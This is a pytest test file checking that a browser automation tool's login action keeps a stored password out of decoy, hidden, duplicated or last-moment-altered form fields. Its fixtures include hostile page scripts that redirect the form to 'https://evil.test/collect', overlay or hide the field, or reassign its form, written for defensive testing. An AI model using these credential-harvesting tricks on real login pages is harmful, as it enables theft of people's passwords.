"""Pages that want more of a secret than a login's fields: decoys, several fields, fields that change or move."""

from __future__ import annotations

import pytest

from mcp_spaces.errors import WrongState
from tests.browser.signing import APP, Rig, holds
from tests.browser.site.server import HANDLERS
from tests.browser.site.wire import Answer


async def test_b08_no_secret_goes_into_anything_but_a_login_s_fields(rig: Rig) -> None:
    path = await rig.secret()
    refused = await rig.refusal("browser.login", secret=path, url=f"{APP}/comment")
    assert isinstance(refused, WrongState) and not await rig.was_opened(path)
    shown = (await rig.call("browser.snapshot")).snapshot
    for label, words in (("Comment", "no input field"), ("Search", "")):
        ref = (
            next(line for line in shown.splitlines() if f'"{label}"' in line and "box" in line)
            .split(" e")[1]
            .split()[0]
        )
        refused = await rig.refusal("browser.login", secret=path, refs={"password": f"e{ref}"})
        assert isinstance(refused, WrongState) and words in refused.message
    assert not await rig.was_opened(path) and rig.site.comments == []


@pytest.mark.parametrize("decoy", ["hidden", "zero", "overlay", "transparent", "offscreen", "clipped"])
async def test_b12_a_field_that_people_do_not_see_gets_nothing(rig: Rig, decoy: str) -> None:
    path = await rig.secret()
    answer = await rig.call("browser.login", secret=path, url=f"{APP}/decoy-{decoy}")
    assert not answer.signed_in and answer.filled == ("username",)
    assert rig.site.holding(rig.site.person.password) == []
    # The one beside it that people see is filled in, and the decoy is not.
    beside = await rig.login(f"/decoy-{decoy}?real=1")
    assert rig.is_in(beside)
    (sent,) = [hit for hit in rig.site.hits("app.test") if rig.site.person.password.encode() in hit.body]
    assert sent.body.count(rig.site.person.password.encode()) == 1 and b"decoy=&" in sent.body + b"&"


async def test_b12_of_several_password_fields_none_is_taken(rig: Rig) -> None:
    path = await rig.secret()
    refused = await rig.refusal("browser.login", secret=path, url=f"{APP}/two-passwords")
    assert isinstance(refused, WrongState) and "several password fields" in refused.message
    assert not await rig.was_opened(path)


TWO = '<input name="{0}" type="password" autocomplete="current-password">'


@pytest.mark.parametrize("apart", ["", "</form><form>"])
async def test_b12_of_two_that_both_ask_for_the_password_none_is_taken(
    rig: Rig, monkeypatch: pytest.MonkeyPatch, apart: str
) -> None:
    """Neither is called a new one: nothing says which of them is the login's."""
    form = f"<form method=post>{TWO.format('one')}{apart}{TWO.format('two')}<button>Sign in</button></form>"
    monkeypatch.setitem(
        HANDLERS, ("GET", "/plain"), lambda *_: Answer(f"<!doctype html><title>Two</title>{form}".encode())
    )
    path = await rig.secret()
    refused = await rig.refusal("browser.login", secret=path, url=f"{APP}/plain")
    assert isinstance(refused, WrongState) and "2 password fields" in refused.message
    assert not await rig.was_opened(path)


@pytest.mark.parametrize("crowd", ["", "?frames=12"])
async def test_b12_where_not_all_fields_are_looked_at_none_is_the_only_one(rig: Rig, crowd: str) -> None:
    path = await rig.secret()
    refused = await rig.refusal("browser.login", secret=path, url=f"{APP}/crowded{crowd}")
    assert isinstance(refused, WrongState) and "more fields than are looked at" in refused.message
    assert not await rig.was_opened(path) and rig.site.holding(rig.site.person.password) == []


@pytest.mark.parametrize("crowd", ["other=500", "foreign=12"])
async def test_b12_what_can_be_no_field_of_a_login_keeps_nobody_from_one(rig: Rig, crowd: str) -> None:
    assert rig.is_in(await rig.login(f"/crowded?{crowd}"))


async def test_b12_who_is_asked_for_more_than_is_looked_at_is_not_taken_for_signed_in(rig: Rig) -> None:
    answer = await rig.login("/crowded?later")
    assert not answer.signed_in and "more fields than are looked at" in answer.note


@pytest.mark.parametrize("page", ["/type-switch", "/moves-field", "/hidden", "/detached"])
async def test_b13_l08_a_field_that_changes_at_the_last_moment_gets_nothing(rig: Rig, page: str) -> None:
    refused = await rig.refusal("browser.login", secret=await rig.secret(), url=APP + page)
    assert isinstance(refused, WrongState) and refused.__cause__ is None and refused.__suppress_context__
    assert rig.site.person.password not in refused.message + refused.hint
    assert rig.site.holding(rig.site.person.password) == []
    assert await rig.state() == "active" and (await rig.call("browser.snapshot")).snapshot


async def test_l08_a_page_that_goes_elsewhere_at_the_last_moment_is_told_without_the_secret(rig: Rig) -> None:
    """Whether it is gone before the field is set, or with what was set in it."""
    try:
        answer = await rig.login("/navigates")
        assert not answer.signed_in
        told = answer.model_dump_json()
    except WrongState as refused:
        told = f"{refused.message} {refused.hint} {refused.__cause__ or ''}"
    assert not holds((told + rig.recorded()).encode(), rig.site.person.password)
    assert rig.site.holding(rig.site.person.password) == []
    assert (await rig.call("browser.get")).pages[0].url == f"{APP}/links100"


async def test_l08_a_field_that_cannot_be_edited_gets_nothing(rig: Rig) -> None:
    path = await rig.secret()
    refused = await rig.refusal("browser.login", secret=path, url=f"{APP}/readonly")
    assert isinstance(refused, WrongState) and "Nothing can be filled in here" in refused.message
    assert not await rig.was_opened(path) and rig.site.holding(rig.site.person.password) == []


FOCUSED = """<!doctype html><title>Sign in</title><form method=post action=/plain><input name=username
  autocomplete=username><input name=password type=password><button>Sign in</button></form>
  <form id=other action=/comment></form><script>
  const field = document.querySelector('[name=password]');
  field.addEventListener('focus', () => { %s; });</script>"""
AT_THE_LAST_MOMENT = {
    "document.body.insertAdjacentHTML('beforeend', '<div style=\"position:fixed;inset:0;background:white\"></div>')": "something else covers it",
    "field.style.opacity = '0.05'": "it is not visible",
    "field.style.cssText = 'width: 2px; height: 2px; padding: 0; border: 0'": "it is too small to be seen",
    "field.style.cssText = 'position: absolute; left: -5000px'": "it is out of sight",
    "field.readOnly = true": "it cannot be edited",
    "field.type = 'text'": "its type has changed",
    "field.form.action = 'https://evil.test/collect'": "its form has changed",
    "field.setAttribute('form', 'other')": "its form has changed",
}  # fmt: skip


@pytest.mark.parametrize(("change", "words"), AT_THE_LAST_MOMENT.items(), ids=AT_THE_LAST_MOMENT.values())
async def test_b13_whatever_a_page_does_to_the_field_when_it_has_the_focus_keeps_the_secret_out(
    rig: Rig, monkeypatch: pytest.MonkeyPatch, change: str, words: str
) -> None:
    """The field is looked at once more after the page could run, in the turn in which it is set."""
    monkeypatch.setitem(HANDLERS, ("GET", "/plain"), lambda *_: Answer((FOCUSED % change).encode()))
    refused = await rig.refusal("browser.login", secret=await rig.secret(), url=f"{APP}/plain")
    assert isinstance(refused, WrongState) and f"password: {words}" in refused.message
    assert rig.site.holding(rig.site.person.password) == [] and await rig.state() == "active"


async def test_b13_k06_a_page_that_moves_what_was_filled_in_loses_its_browser(rig: Rig) -> None:
    path = await rig.secret()
    refused = await rig.refusal("browser.login", secret=path, url=f"{APP}/moves-form")
    assert isinstance(refused, WrongState) and "closed with what it held" in refused.message
    assert await rig.state() == "failed" and await rig.was_opened(path)
    assert rig.leaks() == [] and rig.site.holding(rig.site.person.password) == []
    assert isinstance(await rig.refusal("browser.snapshot"), WrongState)
